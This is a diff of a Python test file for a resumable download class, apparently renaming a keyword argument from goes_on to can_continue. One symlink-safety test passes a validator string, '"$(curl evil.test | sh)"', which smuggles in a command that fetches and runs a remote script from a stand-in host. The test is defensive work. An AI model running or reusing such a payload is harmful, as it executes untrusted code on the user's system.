@@ -36,7 +36,7 @@ def victim(tmp_path: Path) -> Path:
 def begin(folder: Path, url: str = URL, tag: str = TAG) -> Download:
     """A download that has begun, with 4 bytes of it."""
     task = Download(url, str(folder))
-    task.start("data.bin", tag, goes_on=False)
+    task.start("data.bin", tag, can_continue=False)
     task.write(b"part")
     return task
 
@@ -75,7 +75,7 @@ def test_it_goes_on_where_the_earlier_try_ended(folder: Path) -> None:
 
     task = Download(URL, str(folder))
     assert (task.begun, task.validator, task.name) == (4, TAG, "data.bin")
-    task.start("other", TAG, goes_on=True)
+    task.start("other", TAG, can_continue=True)
     task.write(b"rest")
     task.finish()
 
@@ -104,7 +104,7 @@ def test_a_link_in_the_place_of_the_note_is_not_written_through(folder: Path, vi
 
     task = Download(URL, str(folder))
     with pytest.raises(CallboxError, match="it is a symbolic link"):
-        task.start("data.bin", '"$(curl evil.test | sh)"', goes_on=False)
+        task.start("data.bin", '"$(curl evil.test | sh)"', can_continue=False)
     assert task.keep() == ""
     assert os.listdir(folder) == [NOTE]
 
@@ -127,7 +127,7 @@ def test_a_file_elsewhere_in_the_place_of_the_part_is_not_appended_to(folder: Pa
 
     task = Download(URL, str(folder))
     assert task.begun == 0
-    task.start("data.bin", TAG, goes_on=False)
+    task.start("data.bin", TAG, can_continue=False)
     task.write(b"evil")
     task.finish()
 
